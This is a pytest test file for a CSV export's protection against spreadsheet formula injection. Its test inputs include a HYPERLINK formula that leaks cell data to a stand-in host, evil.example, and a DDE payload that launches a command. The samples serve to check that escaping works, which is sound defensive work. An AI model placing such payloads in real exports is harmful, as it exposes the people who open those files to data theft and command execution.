"""Every CSV export escapes cells a spreadsheet would run as formulas (issue 18 §7)."""

import csv
import io

import pytest

from services.collection.api.csv_export import csv_response
from shared.csv_cells import spreadsheet_safe, spreadsheet_safe_row

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+81-3-1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
             "＝1+1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_starts_are_written_as_text(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["髙橋 﨑子", "ﾀｶﾊｼ", "令和6年4月1日", "a=b", "", "'already"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert spreadsheet_safe(value) == value


def test_numbers_written_by_the_system_stay_numbers() -> None:
    assert spreadsheet_safe_row([-500, 0, None, 1.5]) == [-500, 0, "", 1.5]


def test_the_central_api_csv_escapes_every_text_cell() -> None:
    response = csv_response(["actor", "detail"], [["=cmd|' /C calc'!A0", -1200], ["@x", None]], "audit-log.csv")
    rows = list(csv.reader(io.StringIO(response.body.decode("utf-8-sig"))))
    assert rows == [["actor", "detail"], ["'=cmd|' /C calc'!A0", "-1200"], ["'@x", ""]]
